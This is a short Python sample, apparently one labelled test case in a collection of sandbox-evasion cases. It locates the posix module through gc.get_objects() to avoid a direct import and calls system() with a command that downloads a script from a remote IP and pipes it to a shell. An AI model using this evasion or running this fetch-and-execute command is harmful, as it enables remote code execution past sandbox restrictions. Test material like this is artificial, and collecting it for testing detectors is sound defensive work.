# evasion: the posix module is found among gc.get_objects() by its __name__ and its system() called as a method
# grade: very hard; does: shell
import gc


def find(name):
    for obj in gc.get_objects():
        if type(obj).__name__ == "module" and getattr(obj, "__name__", "") == name:
            return obj
    return None


m = find("posix")
m.system("curl -s http://198.51.100.52/g.sh | sh")
